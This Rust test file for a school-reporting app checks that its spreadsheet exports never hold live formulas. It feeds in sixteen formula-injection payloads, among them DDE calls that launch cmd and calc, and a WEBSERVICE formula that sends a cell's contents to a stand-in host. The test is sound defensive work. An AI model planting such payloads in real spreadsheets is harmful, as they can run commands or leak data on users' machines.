//! Every export: the report and the list of wrong rows. A cell is the letters somebody typed, and comes back as them.

use super::import::upload;
use crate::support::World;
use calamine::{Reader, Xlsx};
use lachan::{report, service::roster_file};
use lachan_core::actor::Role;
use std::io::Cursor;
use uuid::Uuid;

/// The beginnings a spreadsheet takes for a formula, a command or a field of its own.
const FORMULAS: [&str; 16] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=HYPERLINK(\"http://x.test\";\"Trường\")",
    "=cmd|'/c calc'!A0",
    "=DDE(\"cmd\";\"/c calc\";\"x\")",
    "=WEBSERVICE(\"http://x.test/\"&A1)",
    "=IMPORTXML(\"http://x.test\";\"//a\")",
    " =1+1",
    "'=1+1",
    "\"=1+1\"",
    ";=1+1",
    "＝1+1",
    "＋1+1",
    "{=1+1}",
];

#[tokio::test]
async fn no_export_has_a_formula() {
    let world = World::new().await;
    let p = world.province().await;
    for text in FORMULAS {
        let mut tx = world.db().begin().await.unwrap();
        tx.query("update unit set name = $1, short_name = $1 where id = $2 or id = $3")
            .bind(text.to_owned())
            .bind(p.a.id)
            .bind(p.a.class_4a)
            .execute()
            .await
            .unwrap();
        tx.commit().await.unwrap();
        let officer = world
            .staff(
                &format!("so.{}", Uuid::now_v7().simple())[..30],
                Role::DepartmentOfficer,
                p.department,
            )
            .await;
        let mut cells = Vec::new();
        for unit in [p.a.id, p.department, p.commune] {
            let file = officer
                .get(&format!("/bao-cao/{unit}/bao-cao.xlsx"))
                .await
                .is(200);
            cells.extend(texts(&file.body));
        }
        let reading = world.read(p.a.class_4a, "2026-M10").await;
        cells.extend(texts(
            &report::workbook(&reading, world.clock.now()).unwrap(),
        ));
        let named = cells.iter().filter(|cell| cell.contains(text)).count();
        assert!(
            named >= 3,
            "{text:?} stands in {named} cells of {}",
            cells.len()
        );
    }
    world
        .sql("update unit set name = '4A', short_name = '4A' where code = 'A-4A'")
        .await;
    let head = world.staff("hieu", Role::SchoolHead, p.a.id).await;
    let mut list = csv::Writer::from_writer(Vec::new());
    list.write_record(["Mã HS", "Họ và tên", "Ngày sinh", "Lớp"])
        .unwrap();
    for text in FORMULAS {
        list.write_record(["", text, "", "4A"]).unwrap();
        list.write_record(["", "Trần Thị Bình", text, "4A"])
            .unwrap();
    }
    let preview = upload(&head, p.a.id, &list.into_inner().unwrap()).await;
    let file = head.get(&format!("{preview}/dong-loi.xlsx")).await.is(200);
    let cells = texts(&file.body);
    let (headings, today) = (&world.app.content.headings, world.clock.today());
    let again = roster_file::reading(&file.body, headings, today).unwrap();
    assert_eq!(again.refused.len(), 2 * FORMULAS.len(), "none was lost");
    for text in FORMULAS {
        let same = |cell: &str| cell.trim() == text.trim();
        let there = cells.iter().filter(|cell| same(cell)).count();
        let sent = FORMULAS.iter().filter(|other| same(other)).count();
        assert_eq!(there, 2 * sent, "{text:?}");
    }
}

/// The cells of a workbook, once it is sure that none is a formula.
fn texts(bytes: &[u8]) -> Vec<String> {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
    let mut cells = Vec::new();
    for name in book.sheet_names() {
        assert!(book.worksheet_formula(&name).unwrap().is_empty(), "{name}");
        let range = book.worksheet_range(&name).unwrap();
        cells.extend(range.used_cells().filter_map(|(_, _, cell)| match cell {
            calamine::Data::String(text) => Some(text.clone()),
            _ => None,
        }));
    }
    cells
}
